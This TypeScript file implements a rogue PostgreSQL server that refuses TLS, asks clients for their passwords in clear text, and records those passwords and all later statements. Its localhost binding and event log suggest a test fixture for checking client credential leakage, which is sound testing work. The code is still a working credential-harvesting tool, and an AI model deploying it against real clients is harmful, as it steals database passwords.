/**
 * A PostgreSQL server that an attacker runs to collect passwords: it turns
 * down TLS, asks every client for its password in clear text
 * (AuthenticationCleartextPassword, which libpq and pg answer without
 * question), records it, then accepts the login and records every statement
 * sent after it (an ALTER ROLE would carry a new password). Statements are
 * answered with an error, so a client never mistakes it for a working
 * database. Protocol 3.0, as documented by PostgreSQL ("Frontend/Backend
 * Protocol").
 */
import { createServer, type Socket } from "node:net";
import { type RogueServer, rogueLog } from "./rogue-record.ts";

const SSL_REQUEST = 80877103;
const GSSENC_REQUEST = 80877104;
const PROTOCOL_3 = 196608;

export async function startRoguePostgres(): Promise<RogueServer> {
  const log = rogueLog();
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
    socket.on("error", () => undefined);
    log.record({ kind: "connection", what: "postgres" });
    serve(socket, log);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  if (address === null || typeof address === "string") throw new Error("no port");
  return {
    host: "127.0.0.1",
    port: address.port,
    events: log.events,
    captured: log.captured,
    close: () =>
      new Promise((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}

function serve(socket: Socket, log: ReturnType<typeof rogueLog>): void {
  let buffer = Buffer.alloc(0);
  let started = false;
  let user = "";
  socket.on("data", (chunk: Buffer) => {
    buffer = Buffer.concat([buffer, chunk]);
    for (;;) {
      if (!started) {
        // Startup packets carry no type byte: length, then a code.
        if (buffer.length < 8) return;
        const length = buffer.readInt32BE(0);
        if (buffer.length < length) return;
        const code = buffer.readInt32BE(4);
        const body = buffer.subarray(8, length);
        buffer = buffer.subarray(length);
        if (code === SSL_REQUEST || code === GSSENC_REQUEST) {
          socket.write("N");
          continue;
        }
        if (code !== PROTOCOL_3) return void socket.destroy();
        user = startupParameter(body, "user");
        started = true;
        socket.write(authentication(3)); // cleartext password, please
        continue;
      }
      if (buffer.length < 5) return;
      const type = String.fromCharCode(buffer[0] as number);
      const length = buffer.readInt32BE(1);
      if (buffer.length < 1 + length) return;
      const body = buffer.subarray(5, 1 + length);
      buffer = buffer.subarray(1 + length);
      if (type === "p") {
        log.record({ kind: "credential", what: `password of ${user}` }, cString(body));
        socket.write(Buffer.concat([authentication(0), backendKeyData(), readyForQuery()]));
      } else if (type === "Q" || type === "P") {
        // Simple query, or Parse of the extended protocol (statement name, then its text).
        const text = type === "Q" ? cString(body) : cString(body.subarray(body.indexOf(0) + 1));
        log.record({ kind: "statement", what: text.split(/\s+/, 1)[0] ?? "" }, text);
        if (type === "Q") socket.write(Buffer.concat([errorResponse(), readyForQuery()]));
      } else if (type === "S") {
        socket.write(Buffer.concat([errorResponse(), readyForQuery()]));
      } else if (type === "X") {
        socket.end();
        return;
      }
    }
  });
}

function startupParameter(body: Buffer, name: string): string {
  const parts = body.toString("utf8").split("\0");
  const index = parts.indexOf(name);
  return index >= 0 ? (parts[index + 1] ?? "") : "";
}

function cString(body: Buffer): string {
  const end = body.indexOf(0);
  return body.subarray(0, end < 0 ? body.length : end).toString("utf8");
}

function message(type: string, body: Buffer): Buffer {
  const header = Buffer.alloc(5);
  header.write(type, 0, "latin1");
  header.writeInt32BE(4 + body.length, 1);
  return Buffer.concat([header, body]);
}

function authentication(code: number): Buffer {
  const body = Buffer.alloc(4);
  body.writeInt32BE(code, 0);
  return message("R", body);
}

function backendKeyData(): Buffer {
  const body = Buffer.alloc(8);
  body.writeInt32BE(4242, 0);
  body.writeInt32BE(4242, 4);
  return message("K", body);
}

function readyForQuery(): Buffer {
  return message("Z", Buffer.from("I"));
}

function errorResponse(): Buffer {
  const fields = ["SERROR", "VERROR", "CXX000", "Mnot a real database"];
  return message("E", Buffer.from(`${fields.join("\0")}\0\0`, "utf8"));
}
